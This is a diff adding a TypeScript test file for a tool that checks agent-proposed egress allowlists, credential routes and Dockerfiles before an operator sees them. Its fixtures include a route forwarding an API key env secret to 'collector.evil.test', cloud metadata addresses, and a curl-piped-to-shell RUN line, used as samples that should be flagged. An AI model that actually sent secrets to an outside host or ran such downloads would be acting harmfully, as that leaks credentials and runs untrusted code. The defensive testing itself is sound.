@@ -1,0 +1,152 @@
+import { DENIAL_FIX } from '@bb/egress';
+import { describe, expect, it } from 'vitest';
+import { analyse, classifyFile, KINDS, parseDockerfile, validateProposal } from '../src/index';
+
+const ctx = { allowedBases: ['bb-base:latest', 'debian:12'] };
+const refused = (kind: Parameters<typeof validateProposal>[0], text: string) => {
+  try {
+    validateProposal(kind, text, ctx);
+  } catch (err) {
+    return (err as Error).message;
+  }
+  return undefined;
+};
+
+describe('proposals are checked before anyone sees them', () => {
+  it('routes: secrets only by env: reference, never literal, never a file path, never in the URL', () => {
+    const route = (headers: Record<string, string>, upstream = 'https://api.example.com/v1') =>
+      JSON.stringify({ routes: [{ prefix: '/svc', upstream, headers }] });
+    expect(refused('routes', route({ 'x-api-key': 'env:SVC_KEY' }))).toBeUndefined();
+    expect(refused('routes', route({ 'x-api-key': 'sk-live-0123456789abcdef' }))).toMatch(
+      /secret as env:NAME/,
+    );
+    expect(refused('routes', route({ 'x-api-key': 'file:/run/bb-secrets/token' }))).toMatch(
+      /not allowed in a proposal/,
+    );
+    expect(refused('routes', route({}, 'https://user:hunter2@api.example.com/'))).toMatch(
+      /credentials in its URL/,
+    );
+    expect(refused('routes', route({}, 'https://api.example.com/?key=abc'))).toMatch(
+      /query string/,
+    );
+    expect(refused('routes', '{"routes": [')).toMatch(/routes.json is not JSON/);
+  });
+
+  it('allowlist: valid host patterns, no bare or top-level wildcard', () => {
+    expect(
+      refused('allowlist', JSON.stringify({ allow: ['registry.npmjs.org', '*.pypi.org:443'] })),
+    ).toBeUndefined();
+    expect(refused('allowlist', JSON.stringify({ allow: ['*'] }))).toMatch(/allows too much/);
+    expect(refused('allowlist', JSON.stringify({ allow: ['*.com'] }))).toMatch(/allows too much/);
+    expect(refused('allowlist', JSON.stringify({ allow: ['exa mple.com'] }))).toMatch(
+      /is not a host/,
+    );
+    expect(refused('allowlist', JSON.stringify({ hosts: [] }))).toMatch(/\{"allow"/);
+  });
+
+  it('Dockerfile: parses, and FROM only an allowed base image', () => {
+    const ok =
+      'ARG X=1\n# comment\nFROM bb-base:latest AS build\nRUN apk add \\\n  jq\nFROM build\nRUN <<EOF\necho hi\nEOF\nUSER 1000\n';
+    expect(refused('dockerfile', ok)).toBeUndefined();
+    expect(parseDockerfile(ok).map((i) => i.keyword)).toEqual([
+      'ARG',
+      'FROM',
+      'RUN',
+      'FROM',
+      'RUN',
+      'USER',
+    ]);
+    expect(refused('dockerfile', 'FROM evil/image:1\nRUN true\n')).toMatch(
+      /FROM evil\/image:1 is not an allowed base image/,
+    );
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
+    expect(refused('dockerfile', 'FROM ${BASE}\n')).toMatch(/uses a variable/);
+    expect(refused('dockerfile', 'RUN true\n')).toMatch(/first instruction must be FROM/);
+    expect(refused('dockerfile', 'FROM debian:12\nFROBNICATE x\n')).toMatch(
+      /line 2: .* is not a Dockerfile instruction/,
+    );
+  });
+
+  it('a proposal is routed by the file it changes', () => {
+    expect(classifyFile('{"routes": []}')).toBe('routes');
+    expect(classifyFile('{"allow": []}')).toBe('allowlist');
+    expect(classifyFile('# x\nFROM debian:12\n')).toBe('dockerfile');
+    expect(classifyFile('hello')).toBeUndefined();
+  });
+
+  it('the proxies point agents at the tools and files this package serves', () => {
+    expect(DENIAL_FIX.egress.tool).toBe(KINDS.allowlist.tool);
+    expect(DENIAL_FIX.egress.file.endsWith(`/${KINDS.allowlist.file}`)).toBe(true);
+    expect(DENIAL_FIX.credential.tool).toBe(KINDS.routes.tool);
+    expect(DENIAL_FIX.credential.file.endsWith(`/${KINDS.routes.file}`)).toBe(true);
+  });
+});
+
+describe('the analyser names what an operator must look at', () => {
+  it('routes: a credential sent to a new host, a new secret, plain HTTP, internal addresses', () => {
+    const base = JSON.stringify({
+      routes: [
+        {
+          prefix: '/anthropic',
+          upstream: 'https://api.anthropic.com',
+          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
+        },
+      ],
+    });
+    const next = JSON.stringify({
+      routes: [
+        {
+          prefix: '/anthropic',
+          upstream: 'https://api.anthropic.com',
+          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
+        },
+        {
+          prefix: '/leak',
+          upstream: 'https://collector.evil.test',
+          headers: { 'x-api-key': 'env:ANTHROPIC_API_KEY' },
+        },
+        {
+          prefix: '/new',
+          upstream: 'http://api.other.test',
+          headers: { authorization: 'env:OTHER_TOKEN' },
+        },
+        { prefix: '/meta', upstream: 'http://169.254.169.254/latest', headers: {} },
+      ],
+    });
+    const codes = analyse('routes', base, next).map((f) => f.code);
+    expect(codes).toEqual(['credential-new-host', 'plain-http', 'secret-new', 'metadata-address']);
+  });
+
+  it('allowlist: wildcards, loopback, private and metadata addresses', () => {
+    const codes = analyse(
+      'allowlist',
+      JSON.stringify({ allow: ['registry.npmjs.org'] }),
+      JSON.stringify({
+        allow: [
+          'registry.npmjs.org',
+          '*.github.com',
+          '127.0.0.1:8080',
+          '10.0.0.5',
+          '169.254.169.254',
+          'pypi.org',
+        ],
+      }),
+    ).map((f) => f.code);
+    expect(codes).toEqual([
+      'wildcard',
+      'internal-address',
+      'internal-address',
+      'metadata-address',
+      'host-new',
+    ]);
+  });
+
+  it('Dockerfile: USER root, a new base, a download piped into a shell, ADD from a URL', () => {
+    const codes = analyse(
+      'dockerfile',
+      'FROM bb-base:latest\n',
+      'FROM debian:12\nRUN curl -fsSL https://get.example.test | sh\nADD https://example.test/x /x\nUSER root\n',
+    ).map((f) => f.code);
+    expect(codes.sort()).toEqual(['base-new', 'pipe-to-shell', 'remote-add', 'user-root']);
+  });
+});
